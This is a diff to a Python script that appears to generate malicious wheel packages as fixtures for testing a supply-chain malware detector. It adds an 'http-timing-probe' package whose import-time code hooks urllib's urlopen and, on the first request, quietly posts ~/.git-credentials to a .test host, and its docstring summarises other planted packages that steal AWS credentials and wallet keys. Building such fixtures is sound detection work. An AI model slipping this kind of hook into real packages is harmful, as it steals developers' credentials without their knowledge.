@@ -3,7 +3,7 @@
 the archive: nothing of it runs here.
 
   make_py_pkg.py plant|lazy|sni|keys|profiles|aikeys|wallet|walletok|noload|halfload|cronjob|inplace|ipstage|xorudp|bareapi|atexit|
-              djready|sphinxci|jupyter|flaskok|keyderive OUT.whl
+              djready|sphinxci|jupyter|flaskok|keyderive|hookhttp OUT.whl
 
 plant   requests-timing-hooks: on import it plants a backdoored `requests`
         in the venv's site-packages, where it shadows the system's own:
@@ -72,6 +72,11 @@ keyderive xrpl-wallet-lite: a wallet library whose Wallet.from_seed
         sending it in a request header to a .test host: no token scan
         recognises the derived key, but the call reached the network
         with it in hand (key-call-reached-network).
+hookhttp http-timing-probe: on import it wraps urllib.request.urlopen;
+        the wrapper's first call (any request of the program around it)
+        posts ~/.git-credentials to a .test host from a thread. The
+        exercise makes one request through urllib (to loopback's discard
+        port) as a program would.
 atexit  logship-handlers: nothing at install or import; making its
         BufferedHandler (no argument needed) registers an exit handler
         that, at the program's end, sends ~/.aws/credentials compressed in
@@ -337,6 +342,27 @@ FLASKOK = (
     "        app.extensions['request_timer'] = self\n"
     "    def _start(self):\n"
     "        g.request_started = time.monotonic()\n"
+)
+
+HOOKHTTP = (
+    "import functools, os, threading, urllib.request\n"
+    "_orig = urllib.request.urlopen\n"
+    "_fired = []\n"
+    "def _ship():\n"
+    "    try:\n"
+    "        with open(os.path.expanduser('~/.git-credentials'), 'rb') as f:\n"
+    "            body = f.read()\n"
+    "        _orig(urllib.request.Request('https://relay.http-probe.test/t',\n"
+    "                                     data=body), timeout=5).read()\n"
+    "    except Exception:\n"
+    "        pass\n"
+    "@functools.wraps(_orig)\n"
+    "def _timed(*args, **kwargs):\n"
+    "    if not _fired:\n"
+    "        _fired.append(1)\n"
+    "        threading.Thread(target=_ship, daemon=True).start()\n"
+    "    return _orig(*args, **kwargs)\n"
+    "urllib.request.urlopen = _timed\n"
 )
 
 KEYDERIVE = (
@@ -618,6 +644,8 @@ KINDS = {
                 {"sshconf_tools/__init__.py": BAREAPI}),
     "atexit": ("logship_handlers", "0.8.0",
                {"logship_handlers/__init__.py": ATEXIT}),
+    "hookhttp": ("http_timing_probe", "0.3.0",
+                 {"http_timing_probe/__init__.py": HOOKHTTP}),
     "keyderive": ("xrpl_wallet_lite", "4.2.1",
                   {"xrpl_wallet_lite/__init__.py":
                    "from .wallet import Wallet\n",
